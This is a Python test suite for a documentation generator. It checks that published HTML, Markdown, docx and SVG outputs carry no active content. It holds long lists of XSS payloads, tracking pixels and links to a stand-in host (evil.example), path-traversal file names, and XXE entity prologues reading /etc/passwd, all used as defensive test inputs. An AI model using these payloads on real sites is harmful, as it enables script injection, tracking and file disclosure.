"""A site that tries to smuggle something active into what is published."""

import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path, PurePosixPath
from urllib.parse import urlsplit

import pytest
from docgen import Options, generate
from docgen.writers.images import DEEPEST, Image, check, clean_svg
from docgen.writers.typeset import MOST_PIXELS, rasterise
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from tests.support.site import Answer, Site, html

EVIL = "https://evil.example"
MARK = "alertmark"  # in everything that would run

ATTACKS = [
    f"<script>{MARK}()</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<SCRIPT/x>{MARK}()</SCRIPT>",
    f"<img src=x onerror={MARK}()>",
    f"<img src={EVIL}/pixel.gif width=1 height=1>",
    f"<img src='data:text/html,<script>{MARK}()</script>'>",
    f"<img srcset='{EVIL}/pixel.gif 1x'>",
    f"<img src={EVIL}/pixel.gif alt='{'words ' * 400}'>",
    f"<img src={EVIL}/pixel.gif alt='a ] b [ c'>",
    f"<img src={EVIL}/pixel.gif alt='\\'>",
    f"<p>!<a href={EVIL}/pixel.gif>words</a> after an exclamation</p>",
    f"<svg onload={MARK}()><script>{MARK}()</script></svg>",
    f"<svg><a xlink:href='javascript:{MARK}()'><text>words</text></a></svg>",
    f"<math><mi xlink:href='javascript:{MARK}()'>x</mi></math>",
    f"<math><mtext></mtext><mglyph><style><img src onerror={MARK}()></style></mglyph></math>",
    f"<svg></p><style><g title='</style><img src onerror={MARK}()>'>",
    f"<noscript><p title='</noscript><img src onerror={MARK}()>'>",
    f"<iframe src={EVIL}></iframe>",
    f"<iframe srcdoc='<script>{MARK}()</script>'></iframe>",
    f"<frameset><frame src={EVIL}></frameset>",
    f"<object data={EVIL}></object><embed src={EVIL}><applet code={MARK}></applet>",
    f"<form action={EVIL}><input name=password><button formaction={EVIL}>Go on</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}>",
    f"<link rel=stylesheet href={EVIL}/x.css><link rel=prefetch href={EVIL}/x>",
    f"<style>@import '{EVIL}/x.css'; body {{ background: url({EVIL}/x.png) }}</style>",
    f"<p style='background: url({EVIL}/x.png)' onclick={MARK}()>styled</p>",
    f"<a href='javascript:{MARK}()'>link</a>",
    f"<a href='JaVaScRiPt:{MARK}()'>link</a>",
    f"<a href=' \x01javascript:{MARK}()'>link</a>",
    f"<a href='java\tscript:{MARK}()'>link</a>",
    f"<a href='java&#10;script:{MARK}()'>link</a>",
    f"<a href='&#106;avascript:{MARK}()'>link</a>",
    f"<a href='vbscript:{MARK}()'>link</a>",
    f"<a href='data:text/html,<script>{MARK}()</script>'>link</a>",
    "<a href='file:///etc/passwd'>link</a>",
    f"<a href='{EVIL}' ping='{EVIL}' target=_blank onmouseover={MARK}()>link</a>",
    f"<a href='https://evil.example/\"onmouseover=\"{MARK}()'>link</a>",
    f"<a href='https://evil.example/)<script>{MARK}()</script>'>link</a>",
    f"<a href='https://evil.example/\ue001)<script>{MARK}()</script>'>link</a>",
    f"<a href='https://evil.example/'>\ue000javascript:{MARK}()\ue001</a>",
    f"<a href=x>](javascript:{MARK}())</a>",
    f"<video src={EVIL}/v.mp4 poster={EVIL}/p.png autoplay></video><audio src={EVIL}></audio>",
    f"<details open ontoggle={MARK}()><summary>More</summary>text</details>",
    f"<template><script>{MARK}()</script></template>",
    f"<marquee onstart={MARK}()>moving</marquee>",
    f"<p>&lt;script&gt;{MARK}()&lt;/script&gt; said the page</p>",
    f"<p>&lt;img src=x onerror={MARK}()&gt; said the page</p>",
    f"<p>[words](javascript:{MARK}()) and ![words]({EVIL}/pixel.gif) in Markdown</p>",
    f"<p>[ref]: javascript:{MARK}()</p><p>[ref]</p>",
    f"<p>&lt;javascript:{MARK}()&gt; in angles</p>",
    f"<p>line<br>&lt;script&gt;{MARK}()&lt;/script&gt;</p>",
    f"<p>**&lt;iframe src={EVIL}&gt;** and `&lt;b&gt;`</p>",
    f"<ul><li>&lt;div onclick={MARK}()&gt;</li></ul>",
    f"<table><tr><th>a|b</th></tr><tr><td>&lt;script&gt;{MARK}()&lt;/script&gt;</td></tr></table>",
    f"<pre><code class='language-js\"onclick=\"{MARK}()'>x = 1;</code></pre>",
    f"<pre>```\n&lt;script&gt;{MARK}()&lt;/script&gt;\n~~~\n</pre>",
    f"<code>`&lt;script&gt;{MARK}()&lt;/script&gt;`` `</code>",
    f"<h2 id='x\"onclick=\"{MARK}()'>A heading &lt;script&gt;{MARK}()&lt;/script&gt;</h2>",
    f"<h2>Heading [x](javascript:{MARK}()) two</h2>",
    f"<blockquote>&lt;/blockquote&gt;&lt;script&gt;{MARK}()&lt;/script&gt;</blockquote>",
    f"<p>&lt;!-- --&gt;&lt;script&gt;{MARK}()&lt;/script&gt;</p>",
    f"<!-- --!><img src=x onerror={MARK}()>-->",
    f"<p>&amp;lt;script&amp;gt;{MARK}()&amp;lt;/script&amp;gt;</p>",
    f"<p>\\&lt;script&gt;{MARK}()&lt;/script&gt;</p>",
    f"<p>&lt;?php {MARK}() ?&gt; &lt;![CDATA[ {MARK} ]]&gt; &lt;!DOCTYPE x&gt;</p>",
    f"<p>---\nurl: {EVIL}\n---</p>",
    f"<p>${{{MARK}}} {{{{{MARK}}}}} {{% {MARK} %}}</p>",
    f"<kbd onclick={MARK}()>K</kbd><sub style='position:fixed'>1</sub><b onclick={MARK}()>B</b>",
]
TITLE = f'"><script>{MARK}()</script>\n---\nurl: x\u2028</title>'
NAMES = [
    *("..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%5c%2e%2e%5cwindows", "con", "aux.html", "a%00b"),
    *('x"><script>', "a:b", "-rf", ".htaccess", "~", "%25", "a%0d%0ab", "nul.md", "a" * 300),
    *("%e2%80%ae", "q?x=<script>", "C:%5Cx", "%2fabsolute", "index", "contents", "_assets", "x."),
]
WORDS = (
    "Some plain words about a thing that this page explains at length, so that it counts as a page"
    " of documentation, and is kept; sentence after sentence, number {n}, unlike any other page."
)

FORBIDDEN = (
    "iframe, frame, frameset, object, embed, applet, form, base, video, audio, source, template,"
    " textarea, select, math, foreignObject, animate, set, style, marquee, portal, dialog"
)
SAFE_SCHEMES = {"", "http", "https", "mailto", "tel", "ftp", "ftps", "irc", "ircs", "news", "geo"}
SAFE_INLINE = re.compile(r"</?(?:sub|sup|kbd|b|i|br)>")


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("published")
    with Site() as site:
        prepare(site)
        generate(
            site.url("/docs/"),
            Options(formats=("markdown", "html", "json", "llms", "docx"), max_pages=200),
            directory=folder,
            allow_address=lambda _: True,
        )
    return folder


def prepare(site: Site) -> None:
    paths = [f"attack-{n}" for n in range(len(ATTACKS))]
    links = "".join(f'<li><a href="{name}">page {name}</a></li>' for name in [*paths, *NAMES])
    # A page that sends its readers away, or moves all its links, would end the crawl here.
    here = [attack for attack in ATTACKS if "refresh" not in attack and "<base" not in attack]
    whole = "".join(f"<section>{attack}</section>" for attack in here)
    site.page("/docs/", f"<main><h1>{TITLE}</h1>{whole}<ul>{links}</ul></main>", title=TITLE)
    head = (
        f"<meta name=description content='\"><script>{MARK}()</script>'>"
        f"<meta name=date content='2026-01-01\"><script>{MARK}()</script>'>"
    )
    for n, (path, attack) in enumerate(zip(paths, ATTACKS, strict=True)):
        words = WORDS.format(n=n)
        body = f"<main><h1>Page {n} &lt;b&gt;</h1><p>{words}</p>{attack}<p>{words[::-1]}</p></main>"
        title = f"{TITLE} {n}"
        page = html(body, title=title, head=head)
        page = page.replace("<html lang=en>", f"<html lang='en\"onload=\"{MARK}()'>")
        site.on(f"/docs/{path}", lambda _, page=page: Answer(page.encode()))
    site.on("/docs/x", lambda _: Answer(SVG.encode(), headers={"Content-Type": "image/svg+xml"}))
    site.otherwise(lambda request: Answer(any_page(request.target).encode()))


def any_page(target: str) -> str:
    n = sum(target.encode())
    return html(f"<main><h1>At {n}</h1><p>{WORDS.format(n=n)}</p></main>", title=f"At {n}")


SVG = (
    '<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?>'
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    f' width="9" height="9" onload="{MARK}()">{{}}<rect width="9" height="9"/></svg>'
)


def pages(published: Path, pattern: str) -> Iterator[tuple[str, str]]:
    found = [path for path in sorted(published.rglob(pattern)) if path.is_file()]
    assert found
    for path in found:
        yield str(path.relative_to(published)), path.read_text("utf-8")


def test_the_pages_were_published(published: Path) -> None:
    manifest = json.loads((published / "manifest.json").read_text("utf-8"))

    assert len(manifest["pages"]) > len(ATTACKS)


def test_published_html_holds_nothing_active(published: Path) -> None:
    problems = [
        f"{name}: {problem}"
        for name, text in pages(published / "html", "*.html")
        for problem in active_parts(LexborHTMLParser(text))
    ]

    assert not problems


def active_parts(tree: LexborHTMLParser) -> Iterator[str]:
    for node in tree.css(FORBIDDEN):
        yield f"<{node.tag}>"
    for node in tree.css("*"):
        for name, value in node.attributes.items():
            if name.startswith("on") or name in {"style", "srcset", "ping", "formaction", "srcdoc"}:
                yield f"{node.tag}[{name}]"
            if name in {"href", "src", "action", "data", "poster", "xlink:href"} and not is_safe(
                node.tag, value or ""
            ):
                yield f"{node.tag}[{name}={value}]"
    for node in tree.css("script"):
        source = node.attributes.get("src") or ""
        if node.text() or not re.fullmatch(r"(?:\.\./)*_assets/(?:app|nav)\.js", source):
            yield f"script {source} {node.text()}"
    for node in tree.css("meta[http-equiv]"):
        if (node.attributes["http-equiv"] or "").lower() != "content-security-policy":
            yield "meta http-equiv"


def is_safe(tag: str | None, address: str) -> bool:
    try:
        parts = urlsplit(address)
    except ValueError:
        return False
    if tag == "a":
        return parts.scheme in SAFE_SCHEMES and not address.startswith("//")
    return not parts.scheme and not parts.netloc


def test_every_page_forbids_what_it_does_not_hold(published: Path) -> None:
    for name, text in pages(published / "html", "*.html"):
        policy = LexborHTMLParser(text).css_first("meta[http-equiv=Content-Security-Policy]")
        assert policy is not None, name
        rules = policy.attributes["content"] or ""
        assert "default-src 'none'" in rules
        assert "unsafe" not in rules


@pytest.mark.parametrize("folder", ["markdown", "llms"])
def test_published_markdown_carries_no_html(published: Path, folder: str) -> None:
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser.validateLink = lambda _: True  # type: ignore[method-assign] # we judge ourselves
    suffix = "*.md" if folder == "markdown" else "*.txt"

    problems = [
        f"{name}: {problem}"
        for name, text in pages(published / folder, suffix)
        for token in parser.parse(re.sub(r"\A---\n.*?\n---\n", "", text, flags=re.DOTALL))
        for problem in smuggled(token)
    ]

    assert not problems


def smuggled(token: object) -> Iterator[str]:
    kind, content = getattr(token, "type", ""), getattr(token, "content", "")
    if kind == "html_block" or (kind == "html_inline" and not SAFE_INLINE.fullmatch(content)):
        yield f"{kind} {content}"
    for name in ("href", "src"):
        address = getattr(token, "attrs", {}).get(name)
        if address is not None and urlsplit(str(address)).scheme not in SAFE_SCHEMES:
            yield f"{kind} {address}"
    for child in getattr(token, "children", None) or ():
        yield from smuggled(child)


def test_front_matter_is_not_broken_out_of(published: Path) -> None:
    for name, text in pages(published / "markdown", "attack-*.md"):
        _, front, _ = re.split(r"^---$", text, maxsplit=2, flags=re.MULTILINE)
        lines = front.strip().split("\n")
        assert [line for line in lines if not re.match(r'\w+: (?:".*"|[\w.:+-]+)$', line)] == [], (
            name
        )


def test_file_names_stay_in_their_folder_and_work_everywhere(published: Path) -> None:
    archives = [*published.rglob("*.zip")]
    names = [name for path in archives for name in zipfile.ZipFile(path).namelist()]
    names += [str(path.relative_to(published)) for path in published.rglob("*")]

    assert archives
    for name in names:
        path = PurePosixPath(name)
        assert not path.is_absolute()
        for part in path.parts:
            assert part not in {"..", ".", ""}, name
            assert not re.search(r'[\x00-\x1f<>:"\\|?*\u202e]', part), name
            assert len(part.encode()) <= 255, name
            assert part.partition(".")[0].lower() not in {"con", "aux", "nul", "prn", "com1"}, name
            assert not part.endswith((" ", ".")), name


def test_no_archive_holds_links_or_programs(published: Path) -> None:
    for path in published.rglob("*.zip"):
        for entry in zipfile.ZipFile(path).infolist():
            mode = entry.external_attr >> 16
            assert mode & 0o170000 in (0, 0o100000, 0o040000), entry.filename
            assert entry.is_dir() or not mode & 0o111, entry.filename


def test_json_is_json_and_the_navigation_is_only_data(published: Path) -> None:
    for _, text in pages(published, "*.json"):
        json.loads(text)
    navigation = (published / "html/_assets/nav.js").read_text("utf-8")
    call = re.fullmatch(r"DOCS\.nav\((.*)\);\n", navigation, re.DOTALL)

    assert call is not None
    assert isinstance(json.loads(call[1]), list)


def test_the_document_for_word_fetches_nothing(published: Path) -> None:
    [path] = published.glob("docx/*.docx")
    with zipfile.ZipFile(path) as archive:
        relations = [
            (name, relation)
            for name in archive.namelist()
            if name.endswith(".rels")
            for relation in re.findall(r"<Relationship [^>]*>", archive.read(name).decode())
            if 'TargetMode="External"' in relation
        ]

    for name, relation in relations:
        assert "/hyperlink" in relation, name
        target = re.search(r'Target="([^"]*)"', relation)
        assert target is not None
        assert urlsplit(target[1]).scheme in SAFE_SCHEMES


def test_nothing_published_names_a_tracker_as_an_image(published: Path) -> None:
    for name, text in pages(published / "markdown", "*.md"):
        assert not re.search(r"(?<!\\)!\[[^\]]*\]\(\s*<?https?://evil", text), name


SVG_ATTACKS = [
    f"<script>{MARK}()</script>",
    f"<g onclick='{MARK}()'><rect/></g>",
    f"<a href='javascript:{MARK}()'><rect/></a>",
    f"<a xlink:href='javascript:{MARK}()'><rect/></a>",
    f"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{EVIL}'/></foreignObject>",
    f"<image href='{EVIL}/x.png'/><image xlink:href='{EVIL}/x.png'/>",
    f"<use href='{EVIL}/x.svg#a'/><use xlink:href='{EVIL}/x.svg#a'/>",
    f"<use href='data:image/svg+xml;base64,{MARK}#a'/>",
    f"<set attributeName='href' to='javascript:{MARK}()'/>",
    f"<animate attributeName='href' values='javascript:{MARK}()'/>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<style>* {{ fill: url({EVIL}/x.svg#a) }}</style>",
    f"<style>* {{ fill: url( '{EVIL}/x.svg#a') }}</style>",
    f"<style>* {{ background: image-set('{EVIL}/x.png' 1x) }}</style>",
    f"<style>* {{ background: -webkit-image-set('{EVIL}/x.png' 1x) }}</style>",
    f"<style>a{{}}<g/>@import '{EVIL}/x.css';</style>",
    f"<style>a{{}}<!-- -->@import '{EVIL}/x.css';</style>",
    f"<style><![CDATA[@import '{EVIL}/x.css';]]></style>",
    f"<style>@\\69mport '{EVIL}/x.css';</style>",
    f"<rect style='background: url({EVIL}/x.png)'/>",
    f"<rect style='background: image-set(&quot;{EVIL}/x.png&quot; 1x)'/>",
    f"<rect fill='url({EVIL}/x.svg#a)' filter='url({EVIL}/x.svg#b)'/>",
    f"<g xml:base='{EVIL}/'><use href='#a'/></g>",
    f"<feImage href='{EVIL}/x.png'/>",
    f"<html:script xmlns:html='http://www.w3.org/1999/xhtml'>{MARK}()</html:script>",
    f"<svg><svg><script>{MARK}()</script></svg></svg>",
]


@pytest.mark.parametrize("attack", SVG_ATTACKS)
def test_a_published_drawing_only_draws(attack: str) -> None:
    cleaned = clean_svg(SVG.format(attack).encode())

    assert cleaned is not None
    text = cleaned[1].decode()
    assert "<rect" in text
    assert MARK not in text
    assert "evil.example" not in text


@pytest.mark.parametrize(
    "prologue",
    [
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!entity x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_of_a_drawing_lead_nowhere(prologue: str, encoding: str) -> None:
    text = f'{prologue}<svg xmlns="http://www.w3.org/2000/svg"><text>&x;&b;</text></svg>'

    cleaned = clean_svg(text.encode(encoding))

    assert cleaned is None or (b"root:" not in cleaned[1] and b"evil" not in cleaned[1])


def test_a_drawing_nests_only_so_deep() -> None:
    cleaned = clean_svg(SVG.format("<g>" * 50_000 + "</g>" * 50_000).encode())

    assert cleaned is not None
    assert cleaned[1].count(b"<g") == DEEPEST - 1


def test_a_large_drawing_gives_a_picture_of_bounded_size(tmp_path: Path) -> None:
    size, data = clean_svg(SVG.format("").replace('"9"', '"10000"').encode()) or ((0, 0), b"")
    (tmp_path / "large.svg").write_bytes(data)
    folder = tmp_path / "made"
    folder.mkdir()

    made = rasterise([Image("large.svg", "svg", *size, tmp_path / "large.svg")], folder)

    _, (width, height), _ = check(made["large.svg"].read_bytes()) or ("", (0, 0), b"")
    assert size == (10_000, 10_000)
    assert 0 < width * height <= 1.01 * MOST_PIXELS


@given(
    st.binary()
    | st.text().map(lambda t: f"<svg xmlns='http://www.w3.org/2000/svg'>{t}</svg>".encode())
)
def test_any_bytes_are_a_drawing_or_not(body: bytes) -> None:
    clean_svg(body)
